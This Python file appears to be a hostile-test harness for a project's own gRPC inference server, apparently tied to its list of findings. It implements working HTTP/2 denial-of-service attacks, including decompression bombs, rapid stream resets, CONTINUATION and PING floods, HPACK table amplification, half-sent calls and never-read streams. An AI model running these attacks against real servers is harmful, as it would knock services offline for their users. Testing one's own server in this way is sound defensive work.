"""Attacks on a gRPC door from one host, by raw frames.

    python tests/hostile/attacks.py NAME HOST:PORT --source 127.0.0.2 --seconds 10

An attack binds its sockets to the source address, so that the server can tell its host from others: on Linux all of
127.0.0.0/8 is loopback. It ends after some seconds and prints one line of JSON: what it sent, and what it was answered.
"""

import argparse
import asyncio
import errno
import gzip
import itertools
import json
import resource
import socket
import struct
import sys
import time
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path

import hpack

sys.path.insert(0, str(Path(__file__).parents[1]))  # as a program of its own it still finds the tests' modules

import http2
from http2 import Http2

from orca.v1 import orca_pb2 as pb

HEALTH, MODEL = "/grpc.health.v1.Health/Check", "/orca.v1.Orca/GetModel"
CANCEL, GENERATE = "/orca.v1.Orca/Cancel", "/orca.v1.Orca/Generate"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
# Field 4 of a question, file_containing_symbol: 19 bytes with the prefix, and the answer has all files of the contract.
QUESTION = http2.message(b"\x22\x0corca.v1.Orca")
GENERATION = http2.message(
    pb.GenerateRequest(token_ids=pb.TokenIds(ids=[5]), max_new_tokens=100, ignore_eos=True).SerializeToString()
)
GZIP = http2.header("grpc-encoding", "gzip")
CANCELLED = struct.pack(">I", 8)
WIDE = 0x7FFF_FFFF  # the largest window
FRAME = 16_384  # bytes of a frame's payload
FIRST_WINDOW = 65_535  # bytes, by HTTP/2
ANNOUNCED = (4 << 20) - 5  # bytes that a message of a half-sent call says it has
PART = b"\0" + struct.pack(">I", ANNOUNCED) + b"part"  # the beginning of such a message
LARGE = 2 << 30  # bytes that an attack sends at most: the machine is also that of the other tests
IO_NO_PORT = 24  # IP_BIND_ADDRESS_NO_PORT: a port is chosen with the connection, so that 28,000 are no bound in all
ATTEMPTS = 1000  # connections a second that a host tries to open again after they were refused or closed


@dataclass
class Tally:
    """What an attack has sent, and what it was answered."""

    connections: int = 0
    calls: int = 0
    sent: int = 0
    """Bytes that were handed to the system."""
    slowest: float = 0.0
    """Seconds of the longest call that was answered."""
    answers: Counter[str] = field(default_factory=Counter)


class Client(Http2):
    """An HTTP/2 connection that knows that it has ended."""

    ended = False


class Connection:
    """One connection to the server. It keeps to the server's windows and counts the answers."""

    def __init__(self, client: Client, tally: Tally) -> None:
        self._client, self._tally = client, tally
        self._decoder = hpack.Decoder()
        self._decoder.max_header_list_size = 1 << 24
        self._began: dict[int, float] = {}
        self._rooms: dict[int, int] = {}
        self._rests: dict[int, tuple[memoryview, bool]] = {}
        self._unsent: list[bytes] = []
        self._room = self._first = FIRST_WINDOW
        self._next = 1
        self.max_streams = 1 << 16
        self._news = asyncio.Event()  # set with each frame of the server

    @property
    def open(self) -> int:
        """Calls that were begun and have not ended."""
        return len(self._began)

    @property
    def ended(self) -> bool:
        """Whether the server has closed the connection."""
        return self._client.ended

    def write(self, *frames: bytes) -> None:
        """Sends frames with the next flush, whatever the windows are."""
        self._unsent += frames

    async def flush(self) -> None:
        """Sends of all that is waiting what the windows allow, and waits until the system has taken most of it."""
        self._write()
        for number in list(self._rests):
            self._send(number)
        self._write()
        await self._client.drain()

    def _write(self) -> None:
        self._tally.sent += sum(map(len, self._unsent))
        self._client.write(*self._unsent)
        self._unsent.clear()

    def begin(
        self, path: str, *more: bytes, data: bytes | memoryview = b"", last: bool = True, apart: bool = False
    ) -> None:
        """Begins a call, whose data follow as the windows allow.

        last: nothing comes behind the data. apart: they come in a segment of their own, after the headers of all.
        """
        number, self._next = self._next, self._next + 2
        block = http2.call(path, *more)
        pieces = [block[n : n + FRAME] for n in range(0, len(block), FRAME)]
        for n, piece in enumerate(pieces):
            flags = http2.END_HEADERS if n == len(pieces) - 1 else 0
            flags |= http2.END_STREAM if n == 0 and last and not data else 0
            self.write(http2.frame(http2.CONTINUATION if n else http2.HEADERS, flags, number, piece))
        self._rooms[number], self._began[number] = self._first, time.monotonic()
        if data:
            self._rests[number] = memoryview(data), last
            if not apart:
                self._send(number)
        self._tally.calls += 1

    def _send(self, number: int) -> None:
        rest, last = self._rests.pop(number)
        while rest and (size := min(len(rest), FRAME, self._room, self._rooms.get(number, 0))) > 0:
            ends = http2.END_STREAM if last and size == len(rest) else 0
            self.write(http2.frame(http2.DATA, ends, number, bytes(rest[:size])))
            self._room -= size
            self._rooms[number] -= size
            rest = rest[size:]
        if rest and number in self._rooms:
            self._rests[number] = rest, last

    async def changed(self) -> None:
        """Waits for the next frame of the server. Raises ConnectionError when the connection has ended."""
        await self._news.wait()
        if self.ended:
            raise ConnectionResetError
        self._news.clear()

    async def keep(self, calls: int, begin: Callable[[], object]) -> None:
        """Has as many calls open as the server allows, at most `calls`, for ever."""
        while True:
            for _ in range(min(self.max_streams, calls) - self.open):
                begin()
            await self.flush()
            await self.changed()

    async def listen(self) -> None:
        """Takes what the server sends until the connection ends."""
        async for frame in self._client.frames():
            self._take(frame)
            self._news.set()
        self._tally.answers["the connection was closed"] += 1
        self._client.ended = True
        self._news.set()

    def _take(self, frame: http2.Frame) -> None:
        match frame.kind:
            case http2.SETTINGS if not frame.flags & http2.ACK:
                for name, value in struct.iter_unpack(">HI", frame.payload):
                    self._set(name, value)
            case http2.WINDOW_UPDATE:
                size = int.from_bytes(frame.payload)
                if frame.stream == 0:
                    self._room += size
                elif frame.stream in self._rooms:
                    self._rooms[frame.stream] += size
            case http2.HEADERS:
                fields = {str(name): str(value) for name, value in self._decoder.decode(frame.payload)}
                if frame.flags & http2.END_STREAM:
                    status = fields.get("grpc-status") or f"HTTP {fields.get(':status')}"
                    self._ended(frame.stream, f"status {status}")
            case http2.RST_STREAM:
                self._ended(frame.stream, f"reset {int.from_bytes(frame.payload)}")
            case http2.GOAWAY:
                self._tally.answers[f"goaway {int.from_bytes(frame.payload[4:8])}"] += 1
            case _:
                pass

    def _set(self, name: int, value: int) -> None:
        if name == http2.MAX_STREAMS:
            self.max_streams = value
        elif name == http2.INITIAL_WINDOW:
            self._rooms = {number: room + value - self._first for number, room in self._rooms.items()}
            self._first = value

    def _ended(self, number: int, how: str) -> None:
        began = self._began.pop(number, None)
        self._rooms.pop(number, None)
        if began is not None:
            self._tally.answers[how] += 1
            self._tally.slowest = max(self._tally.slowest, time.monotonic() - began)


Attempt = Callable[["Attacker"], Awaitable[None]]


class Attacker:
    """One hostile host."""

    def __init__(self, address: str, source: str) -> None:
        self._address, self._source = address, source
        self.tally = Tally()

    @asynccontextmanager
    async def raw(self, opening: bytes) -> AsyncIterator[Client]:
        """A connection that has sent these bytes. Leaving it resets the connection. Raises OSError."""
        host, _, port = self._address.rpartition(":")
        with socket.socket() as plain:
            plain.setblocking(False)
            plain.setsockopt(socket.IPPROTO_IP, IO_NO_PORT, 1)
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            plain.bind((self._source, 0))
            await asyncio.get_running_loop().sock_connect(plain, (host, int(port)))
            self.tally.connections += 1
            reader, writer = await asyncio.open_connection(sock=plain)
            try:
                writer.write(opening)
                self.tally.sent += len(opening)
                yield Client(reader, writer)
            finally:
                writer.transport.abort()

    @asynccontextmanager
    async def connection(self, window: int = WIDE, deaf: bool = False) -> AsyncIterator[Connection]:
        """A connection whose server has sent its settings. Raises OSError.

        window: bytes that the server may send on each stream. deaf: nothing more is read.
        """
        hello = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0, http2.setting(http2.INITIAL_WINDOW, window))
        hello += http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", WIDE - FIRST_WINDOW))
        async with self.raw(hello) as client:
            made = Connection(client, self.tally)
            listening = asyncio.create_task(made.listen())
            try:
                await made.changed()
                if deaf:
                    made.write(http2.frame(http2.PING, 0, 0, b"greeting"))  # windows come before its answer
                    await made.flush()
                    await made.changed()
                    listening.cancel()
                yield made
            finally:
                listening.cancel()
                await asyncio.gather(listening, return_exceptions=True)

    async def together(self, count: int, attempt: Attempt) -> None:
        """Makes an attempt on some connections at a time, for ever."""
        async with asyncio.TaskGroup() as group:
            for _ in range(count):
                group.create_task(self._again(attempt, count / ATTEMPTS))

    async def _again(self, attempt: Attempt, pause: float) -> None:
        while True:
            try:
                await attempt(self)
            except OSError as error:
                name = errno.errorcode.get(error.errno or 0, type(error).__name__)
                self.tally.answers[f"connection: {name}"] += 1
                await asyncio.sleep(pause)


async def stay() -> None:
    """Waits for the end of the attack."""
    await asyncio.Event().wait()


# -- D1
def questions(window: int, deaf: bool = False) -> Attempt:
    """Packs questions to reflection into the first windows of 120 streams, and goes on as their answers end.

    window: bytes of the answers to a call that are allowed. deaf: they are not read.
    """
    packed = QUESTION * (FIRST_WINDOW // len(QUESTION))

    async def attempt(attacker: Attacker) -> None:
        async with attacker.connection(window, deaf) as connection:
            await connection.keep(120, lambda: connection.begin(REFLECTION, data=packed))

    return attempt


# -- D2
def bomb(size: int) -> bytes:
    """A compressed message that becomes `size` zeros."""
    packed = gzip.compress(bytes(size), 9)
    return b"\1" + struct.pack(">I", len(packed)) + packed


def endless_bomb(size: int) -> bytes:
    """A compressed message of about `size` bytes that becomes a thousand times as many, and has no end."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    start = deflate.compress(b"\0") + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(bytes(1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    packed = start + again * ((size - len(start)) // len(again))
    return b"\1" + struct.pack(">I", len(packed)) + packed


def bombs(path: str, charge: bytes) -> Attempt:
    """Sends compressed messages to a method, 100 at a time on a connection."""

    async def attempt(attacker: Attacker) -> None:
        async with attacker.connection() as connection:
            await connection.keep(100, lambda: connection.begin(path, GZIP, data=charge))

    return attempt


# -- D3
async def idle(attacker: Attacker) -> None:
    """Opens a connection, answers the server's pings, and asks for nothing."""
    async with attacker.connection() as connection:
        while True:
            await connection.changed()


# -- D4
async def busy(attacker: Attacker) -> None:
    """Has 200 health checks open at a time. Their small messages come after all their headers."""
    async with attacker.connection() as connection:
        await connection.keep(200, lambda: connection.begin(HEALTH, data=http2.message(b""), apart=True))


# -- D5
def half(path: str, most: int) -> Attempt:
    """Begins as many calls as are allowed, sends at most `most` bytes of each one's message, and never the rest."""
    part = (b"\0" + struct.pack(">I", ANNOUNCED) + bytes(ANNOUNCED - 1))[:most]

    async def attempt(attacker: Attacker) -> None:
        async with attacker.connection() as connection:

            def begin() -> None:
                connection.begin(path, data=part if attacker.tally.sent < LARGE else part[:5], last=False)

            await connection.keep(256, begin)

    return attempt


async def no_message(attacker: Attacker) -> None:
    """Begins as many calls as are allowed, and ends each without a message."""
    async with attacker.connection() as connection:
        await connection.keep(256, lambda: connection.begin(MODEL))


async def forms(attacker: Attacker) -> None:
    """Asks for answers of 48 schemas at a time, each of which takes a tenth of a second to compile.

    That is a fifth of the limit: on a busy machine the same work takes more of a processor's time.
    """
    days = {f"p{n}": {"type": "string", "format": "date-time"} for n in range(400)}
    numbers = itertools.count()

    def begin(connection: Connection) -> None:
        schema = json.dumps({"title": str(next(numbers)), "type": "object", "properties": days})
        asked = pb.GenerateRequest(token_ids=pb.TokenIds(ids=[5]), max_new_tokens=1, json_schema=schema)
        connection.begin(GENERATE, data=memoryview(http2.message(asked.SerializeToString())))

    async with attacker.connection() as connection:
        await connection.keep(48, lambda: begin(connection))


async def chats(attacker: Attacker) -> None:
    """Asks for answers to 24 chats at a time, each of 15,000 messages and 750 KB, which take half a second each."""
    messages = [pb.ChatMessage(role="user", content="the pool is full of them " + "a" * 15)] * 15_000
    asked = pb.GenerateRequest(chat=pb.Chat(messages=messages), max_new_tokens=1)
    message = memoryview(http2.message(asked.SerializeToString()))

    async with attacker.connection() as connection:
        await connection.keep(24, lambda: connection.begin(GENERATE, data=message))


async def queue(attacker: Attacker) -> None:
    """Asks for 50 answers, leaves them for an hour after a second, and asks for as many more."""
    asked = pb.GenerateRequest(token_ids=pb.TokenIds(ids=[5]), max_new_tokens=100, ignore_eos=True)
    asked.detach_grace.FromSeconds(3600)
    message = http2.message(asked.SerializeToString())

    async with attacker.connection() as connection:
        for _ in range(50):
            connection.begin(GENERATE, data=message)
        await connection.flush()
        await asyncio.sleep(1.0)


def ambiguous(rules: int) -> str:
    """A legal grammar: an answer of a or z ends there, others can be read in more ways with each letter."""
    lines = ['start: "a" | "z" | /[b-y]/ s', "s: " + " | ".join(f"n{n}" for n in range(rules))]
    lines += [f"n{n}: s s | s n{(n + 1) % rules} | n{n} s | /[a-z]/" for n in range(rules)]
    return "\n".join(lines)


def followed(*rules: int) -> Attempt:
    """Asks for 16 answers at a time of grammars that compile at once. With more rules masks take up to seconds."""

    async def attempt(attacker: Attacker) -> None:
        numbers, drawn = itertools.count(1), pb.Sampling(temperature=1.0)

        def begin(connection: Connection) -> None:
            number = next(numbers)
            grammar = f"{ambiguous(rules[number % len(rules)])}\n// {number}"
            ids = pb.TokenIds(ids=[number % 90])
            asked = pb.GenerateRequest(token_ids=ids, max_new_tokens=100, sampling=drawn, grammar=grammar)
            connection.begin(GENERATE, data=memoryview(http2.message(asked.SerializeToString())))

        async with attacker.connection() as connection:
            await connection.keep(16, lambda: begin(connection))

    return attempt


# -- D6
def resets(count: int) -> bytes:
    """A whole connection in one piece: calls that are taken back as soon as they are begun, and a ping."""
    block = http2.call(GENERATE)
    pieces = [http2.PREFACE, http2.frame(http2.SETTINGS, 0, 0)]
    for number in range(1, 2 * count, 2):
        pieces.append(http2.frame(http2.HEADERS, http2.END_HEADERS, number, block))
        pieces.append(http2.frame(http2.RST_STREAM, 0, number, CANCELLED))
    return b"".join([*pieces, http2.frame(http2.PING, 0, 0, b"the end.")])


def opening(raw: bytes, calls: int = 0) -> Attempt:
    """Connects, sends the same bytes each time, and connects again when the ping among them is answered."""

    async def attempt(attacker: Attacker) -> None:
        async with attacker.raw(raw) as client:
            attacker.tally.calls += calls
            async for frame in client.frames():
                if frame.kind == http2.PING and frame.payload == b"the end.":
                    return
                if frame.kind == http2.GOAWAY:
                    attacker.tally.answers[f"goaway {int.from_bytes(frame.payload[4:8])}"] += 1
            attacker.tally.answers["the connection was closed"] += 1

    return attempt


async def churn(attacker: Attacker) -> None:
    """Connects, says hello and leaves at once."""
    async with attacker.raw(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0)):
        pass


# -- floods of frames
def flood(piece: bytes, begun: bool = False) -> Attempt:
    """Sends one frame over and over. begun: it belongs to stream 1, which is a half-sent call."""
    chunk = piece * max(FRAME // len(piece), 1)

    async def attempt(attacker: Attacker) -> None:
        async with attacker.connection() as connection:
            if begun:
                connection.begin(MODEL, data=PART, last=False)
            while not connection.ended:
                connection.write(chunk)
                await connection.flush()
                await asyncio.sleep(0)  # the answers are read meanwhile

    return attempt


async def continuation(attacker: Attacker) -> None:
    """Begins a header that never ends."""
    async with attacker.connection() as connection:
        connection.write(http2.frame(http2.HEADERS, 0, 1, http2.call(MODEL)))
        piece = http2.frame(http2.CONTINUATION, 0, 1, http2.header("x", "a" * 1000) * 16)
        while not connection.ended:
            connection.write(piece)
            await connection.flush()
            await asyncio.sleep(0)


async def headers(attacker: Attacker) -> None:
    """Begins calls with headers of 60 and of 120 KB."""
    sizes = itertools.cycle((60_000, 120_000))
    async with attacker.connection() as connection:
        await connection.keep(100, lambda: connection.begin(MODEL, http2.header("x", "a" * next(sizes))))


async def table(attacker: Attacker) -> None:
    """Puts one field of 3,900 bytes into the table of headers, and names it 16,000 times in each call's header."""
    async with attacker.connection() as connection:
        connection.begin(MODEL, b"\x40" + http2.header("x", "a" * 3900)[1:])
        await connection.keep(100, lambda: connection.begin(MODEL, b"\xbe" * 16_000))


# -- clients that do not read
def deaf(window: int) -> Attempt:
    """Asks for 256 streams of tokens, gives each this window, and reads nothing."""

    async def attempt(attacker: Attacker) -> None:
        async with attacker.connection(window, deaf=True) as connection:
            for _ in range(min(connection.max_streams, 256)):
                connection.begin(GENERATE, data=GENERATION)
            await connection.flush()
            await stay()

    return attempt


@dataclass(frozen=True)
class Attack:
    """What is done on each connection, and on how many at a time."""

    attempt: Attempt
    connections: int
    about: str
    case: str = ""
    """The name that the project's list of findings gives it."""


PING, SETTINGS = http2.frame(http2.PING, 0, 0, b"12345678"), http2.frame(http2.SETTINGS, 0, 0)
SMALL_BOMB = bomb(4 << 20)
ATTACKS = {
    "questions": Attack(questions(WIDE), 4, "3,400 questions to reflection in one piece, on 120 streams", "D1"),
    "questions-unread": Attack(questions(WIDE, deaf=True), 4, "the same, answers are not read", "D1"),
    "questions-stuck": Attack(questions(0), 4, "the same, answers have no window", "D1"),
    "bombs-health": Attack(bombs(HEALTH, SMALL_BOMB), 4, "4 KB that become 4 MB, at Health/Check", "D2"),
    "bombs-model": Attack(bombs(MODEL, SMALL_BOMB), 4, "4 KB that become 4 MB, at GetModel", "D2"),
    "bombs-deep": Attack(bombs(MODEL, endless_bomb((4 << 20) - 4096)), 4, "4 MB that become 4 GB, at GetModel", "D2"),
    "idle": Attack(idle, 5000, "connections that answer pings", "D3"),
    "busy": Attack(busy, 4, "health checks whose messages come after their headers", "D4"),
    "half-model": Attack(half(MODEL, FIRST_WINDOW), 200, "half-sent calls of GetModel", "D5"),
    "half-cancel": Attack(half(CANCEL, FIRST_WINDOW), 200, "half-sent calls of Cancel", "D5"),
    "half-health": Attack(half(HEALTH, FIRST_WINDOW), 200, "half-sent calls of Health/Check", "D5"),
    "half-generate": Attack(half(GENERATE, FIRST_WINDOW), 200, "half-sent calls of Generate", "D5"),
    "nearly": Attack(half(GENERATE, ANNOUNCED), 200, "messages of 4 MB without their last byte", "D5"),
    "no-message": Attack(no_message, 200, "calls of GetModel that end without a message", "D5"),
    "resets": Attack(opening(resets(900), 900), 8, "900 calls begun and reset, then a new connection", "D6"),
    "churn": Attack(churn, 16, "connections that leave at once", "D6"),
    "pings": Attack(flood(PING), 8, "a flood of pings"),
    "settings": Attack(flood(SETTINGS), 8, "a flood of settings"),
    "empty-data": Attack(flood(http2.frame(http2.DATA, 0, 1), begun=True), 8, "a flood of empty DATA"),
    "continuation": Attack(continuation, 8, "headers that do not end"),
    "headers": Attack(headers, 8, "headers of 60 and 120 KB"),
    "table": Attack(table, 8, "headers of 16 KB that become 64 MB"),
    "forms": Attack(forms, 1, "schemas that take a tenth of a second to compile"),
    "chats": Attack(chats, 1, "chats that take half a second to render"),
    "queue": Attack(queue, 8, "requests that are left in the queue for an hour"),
    "easy-forms": Attack(followed(1), 1, "16 answers at a time, to measure the next one against"),
    "hard-forms": Attack(followed(20, 60, 150), 1, "the same of grammars that are hard to follow"),
    "no-window": Attack(deaf(0), 16, "streams of tokens without a window"),
    "no-reading": Attack(deaf(WIDE), 16, "streams of tokens that are not read"),
}


async def attack(name: str, address: str, source: str, seconds: float) -> Tally:
    """Attacks an address for some seconds."""
    attacker, chosen = Attacker(address, source), ATTACKS[name]
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await attacker.together(chosen.connections, chosen.attempt)
    return attacker.tally


def main() -> None:
    """Runs one attack and prints its line."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--seconds", type=float, default=10.0)
    given = parser.parse_args()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    tally = asyncio.run(attack(given.name, given.address, given.source, given.seconds))
    used = sum(resource.getrusage(resource.RUSAGE_SELF)[:2])
    line = {
        "attack": given.name,
        "connections": tally.connections,
        "calls": tally.calls,
        "sent_mb": round(tally.sent / 1e6, 1),
        "slowest_call_s": round(tally.slowest, 3),
        "cpu_s": round(used, 2),
        "answers": dict(tally.answers.most_common()),
    }
    print(json.dumps(line))


if __name__ == "__main__":
    main()
